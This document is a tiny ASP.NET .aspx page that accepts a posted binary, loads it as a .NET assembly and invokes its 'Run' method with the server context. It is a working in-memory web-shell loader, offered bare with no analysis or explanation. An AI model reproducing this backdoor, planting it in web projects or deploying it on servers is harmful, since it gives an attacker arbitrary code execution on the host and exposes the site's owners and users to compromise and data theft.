<%@ Page Language="C#" %>
<%
byte[] body = Request.BinaryRead(Request.ContentLength);
System.Reflection.Assembly.Load(body).GetType("Q").GetMethod("Run").Invoke(null, new object[] { Context });
%>
